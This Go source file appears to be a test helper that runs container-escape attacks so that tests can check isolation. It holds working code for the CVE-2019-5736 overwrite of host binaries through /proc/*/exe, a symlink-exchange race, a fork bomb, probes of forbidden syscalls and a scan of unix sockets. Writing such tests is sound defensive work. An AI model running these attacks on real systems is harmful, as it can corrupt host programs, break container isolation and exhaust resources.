// Command hostile is what an attacker runs inside a container: the tests build
// it, put it into an image and look at the host afterwards.
//
//	hostile syscalls          each dangerous system call with the error it got
//	hostile overwrite         writes over every program that /proc shows, until it is killed
//	hostile flip DIR LINK     exchanges DIR and LINK (a symbolic link) until it is killed
//	hostile sockets           tries every unix socket, abstract ones too, that the namespace shows
//	hostile bomb              starts 10,000 processes, or as many as it gets, and tells how many
//	hostile ping ADDRESS      an ICMP echo without a raw socket: no attack, what any user may do
package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	args := slices.Concat(os.Args[1:], []string{"", "", ""})
	var err error
	switch args[0] {
	case "syscalls":
		syscalls()
	case "overwrite":
		overwrite()
	case "flip":
		err = flip(args[1], args[2])
	case "bomb":
		bomb()
	case "ping":
		err = ping(args[1])
	case "sockets":
		err = sockets()
	default:
		err = fmt.Errorf("hostile: unknown attack %q", args[0])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// x32 marks a call of the x32 ABI, which a filter for x86-64 alone does not see.
const x32 = 0x40000000

// syscalls calls what a container has no business to call, with arguments that
// do no harm where it is allowed.
func syscalls() {
	for _, c := range []struct {
		name string
		nr   uintptr
		args [3]uintptr
	}{
		{"unshare", unix.SYS_UNSHARE, [3]uintptr{unix.CLONE_NEWUSER}},
		{"keyctl", unix.SYS_KEYCTL, [3]uintptr{0, ^uintptr(2), 0}},
		{"add_key", unix.SYS_ADD_KEY, [3]uintptr{}},
		{"bpf", unix.SYS_BPF, [3]uintptr{}},
		{"io_uring_setup", unix.SYS_IO_URING_SETUP, [3]uintptr{1}},
		{"userfaultfd", unix.SYS_USERFAULTFD, [3]uintptr{}},
		{"mount", unix.SYS_MOUNT, [3]uintptr{}},
		{"open_tree", unix.SYS_OPEN_TREE, [3]uintptr{}},
		{"setns", unix.SYS_SETNS, [3]uintptr{^uintptr(0)}},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, [3]uintptr{}},
		{"kexec_load", unix.SYS_KEXEC_LOAD, [3]uintptr{}},
		{"init_module", unix.SYS_INIT_MODULE, [3]uintptr{}},
		{"open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, [3]uintptr{^uintptr(0)}},
		{"x32 getpid", x32 | unix.SYS_GETPID, [3]uintptr{}},
	} {
		_, _, errno := unix.RawSyscall(c.nr, c.args[0], c.args[1], c.args[2])
		fmt.Printf("%s %s\n", c.name, unix.ErrnoName(errno))
	}
}

// overwrite opens every program that runs in sight, waits until it can be written
// (an executable that runs cannot), and writes over it (CVE-2019-5736).
func overwrite() {
	tried := map[string]bool{}
	for ; ; time.Sleep(200 * time.Microsecond) {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range exes {
			if name, err := os.Readlink(exe); tried[exe] || err != nil || strings.HasSuffix(name, "/hostile") || strings.HasSuffix(name, "/busybox") {
				continue
			}
			if f, err := os.Open(exe); err == nil {
				tried[exe] = true
				go write(f)
			}
		}
	}
}

func write(f *os.File) {
	defer f.Close()
	path := fmt.Sprintf("/proc/self/fd/%d", f.Fd())
	name, _ := os.Readlink(path)
	for range 500 {
		w, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0)
		if err == nil {
			_, err = w.WriteString("overwritten")
			w.Close()
			fmt.Println("overwrote", name, err)
			return
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Println("could not write", name)
}

// flip makes a path a folder in one moment and a link in the next.
func flip(dir, link string) error {
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", dir, link, err)
		}
	}
}

// bomb starts processes that do nothing. They are plain clones of this one, in
// which no Go code but the call of pause may run.
func bomb() {
	started := 0
	for ; started < 10_000; started++ {
		pid, _, errno := unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
		if errno != 0 {
			break
		}
		for pid == 0 {
			_, _, _ = unix.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
		}
	}
	fmt.Println("started", started)
	_, _, _ = unix.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
}

// ping sends an echo request over a datagram socket and waits for the answer.
func ping(address string) error {
	ip := net.ParseIP(address).To4()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return fmt.Errorf("open ICMP socket: %w", err)
	}
	defer unix.Close(fd)
	echo := []byte{8, 0, 0, 0, 0, 0, 0, 1} // the kernel fills in the identifier and the sum
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 10}); err != nil {
		return err
	}
	if err := unix.Sendto(fd, echo, 0, &unix.SockaddrInet4{Addr: [4]byte(ip)}); err != nil {
		return fmt.Errorf("ping %s: %w", address, err)
	}
	if _, _, err := unix.Recvfrom(fd, make([]byte, 64), 0); err != nil {
		return fmt.Errorf("wait for %s: %w", address, err)
	}
	fmt.Println("pong")
	return nil
}

// sockets names every listening unix socket that lets us in.
func sockets() error {
	f, err := os.Open("/proc/net/unix")
	if err != nil {
		return err
	}
	defer f.Close()
	for lines := bufio.NewScanner(f); lines.Scan(); {
		fields := strings.Fields(lines.Text())
		if len(fields) < 8 || fields[0] == "Num" {
			continue
		}
		c, err := net.Dial("unix", fields[7]) // Go takes a leading @ as the abstract namespace
		if err == nil {
			c.Close()
			fmt.Println("connected to", fields[7])
		}
	}
	return nil
}
